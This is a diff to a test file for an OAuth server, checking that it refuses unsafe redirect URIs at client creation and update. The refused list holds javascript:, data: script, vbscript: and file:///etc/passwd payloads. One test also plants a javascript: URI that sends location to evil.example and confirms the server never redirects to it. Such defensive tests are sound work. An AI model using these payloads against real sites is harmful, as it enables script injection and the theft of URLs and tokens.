@@ -80,11 +80,110 @@ async def test_create_validates(oauth_server: OAuthServer, body: dict, error: st
     assert resp.json()["error"] == error
 
 
-async def test_loopback_http_and_private_schemes_are_accepted(oauth_server: OAuthServer):
-    created = await oauth_server.create_client(
-        redirect_uris=("http://127.0.0.1:8080/cb", "com.example.app:/oauth")
+ACCEPTED_REDIRECT_URIS = (
+    "https://client.example/callback?tenant=1",
+    "http://127.0.0.1:8080/cb",
+    "http://[::1]:8080/cb",
+    "http://localhost:3000/cb",
+    "com.example.app:/oauth2redirect",
+)
+REFUSED_REDIRECT_URIS = (
+    "javascript:alert(document.domain)//",
+    "JavaScript:alert(1)",
+    "data:text/html,<script>alert(1)</script>",
+    "file:///etc/passwd",
+    "vbscript:msgbox(1)",
+    "myapp:/callback",  # a private-use scheme must be reverse-domain (RFC 8252 7.1)
+    "http://client.example/cb",  # plain http off loopback
+    "https://user:pw@client.example/cb",  # userinfo
+    "https://client.example/cb#frag",
+    "/relative/cb",
+    "https:///no-host",
+    "https://client.example/c b",
+)
+
+
+async def test_loopback_http_https_and_private_schemes_are_accepted(oauth_server: OAuthServer):
+    created = await oauth_server.create_client(redirect_uris=ACCEPTED_REDIRECT_URIS)
+    assert created["redirect_uris"] == list(ACCEPTED_REDIRECT_URIS)
+    resp = await oauth_server.http.patch(
+        oauth_server.admin_url(f"/clients/{created['id']}"),
+        json={"redirect_uris": list(reversed(ACCEPTED_REDIRECT_URIS))},
+        headers=AS_ADMIN,
     )
-    assert created["redirect_uris"] == ["http://127.0.0.1:8080/cb", "com.example.app:/oauth"]
+    assert resp.status_code == 200
+    assert resp.json()["redirect_uris"] == list(reversed(ACCEPTED_REDIRECT_URIS))
+
+
+@pytest.mark.parametrize("uri", REFUSED_REDIRECT_URIS)
+async def test_redirect_uri_refused_at_creation_and_update(oauth_server: OAuthServer, uri: str):
+    client = await oauth_server.create_client()
+    created = await oauth_server.http.post(
+        oauth_server.admin_url("/clients"),
+        json={"name": "x", "redirect_uris": [REDIRECT_URI, uri], "allowed_scopes": ["openid"]},
+        headers=AS_ADMIN,
+    )
+    updated = await oauth_server.http.patch(
+        oauth_server.admin_url(f"/clients/{client['id']}"),
+        json={"redirect_uris": [uri]},
+        headers=AS_ADMIN,
+    )
+    assert created.status_code == 400
+    assert created.json()["error"] == "invalid_redirect_uri"
+    assert created.json()["error_description"].startswith("redirect_uris[1]: ")
+    assert updated.status_code == 400
+    assert updated.json()["error"] == "invalid_redirect_uri"
+    assert updated.json()["error_description"].startswith("redirect_uris[0]: ")
+    listed = await oauth_server.http.get(oauth_server.admin_url("/clients"), headers=AS_ADMIN)
+    assert [c["redirect_uris"] for c in listed.json()["clients"]] == [[REDIRECT_URI]]
+
+
+async def test_a_stored_javascript_redirect_uri_is_never_redirected_to(
+    oauth_server: OAuthServer,
+):
+    # A row written before the registration rules (or by hand) keeps its bad URI.
+    from oauth.rfc7636 import s256_challenge
+
+    client = await oauth_server.create_client()
+    evil = "javascript:fetch('//evil.example/'+location)//"
+    await oauth_server.config.db.execute(
+        "UPDATE oauth.oauth_clients SET redirect_uris = %s WHERE id = %s",
+        (f'["{evil}"]', client["id"]),
+    )
+    params = {
+        "client_id": client["client_id"],
+        "redirect_uri": evil,
+        "response_type": "code",
+        "scope": "openid",
+        "state": "s",
+        "code_challenge": s256_challenge(VERIFIER),
+        "code_challenge_method": "S256",
+    }
+    as_alice = {USER_HEADER: str(ALICE)}
+    for resp in (
+        await oauth_server.http.get(
+            oauth_server.url("/authorize/info"), params=params, headers=as_alice
+        ),
+        await oauth_server.http.post(
+            oauth_server.url("/authorize/approve"), json=params, headers=as_alice
+        ),
+        await oauth_server.http.post(
+            oauth_server.url("/authorize/deny"), json=params, headers=as_alice
+        ),
+        # Even an error that would carry a redirect_url must not.
+        await oauth_server.http.post(
+            oauth_server.url("/authorize/approve"),
+            json={**params, "response_type": "token"},
+            headers=as_alice,
+        ),
+    ):
+        assert resp.status_code == 400
+        assert resp.json()["error"] == "invalid_request"
+        assert "redirect_url" not in resp.json()
+    codes = await oauth_server.config.db.fetch_val(
+        "SELECT count(*) FROM oauth.oauth_authorization_codes"
+    )
+    assert codes == 0
 
 
 async def test_update_changes_metadata(oauth_server: OAuthServer, host: TestHost):
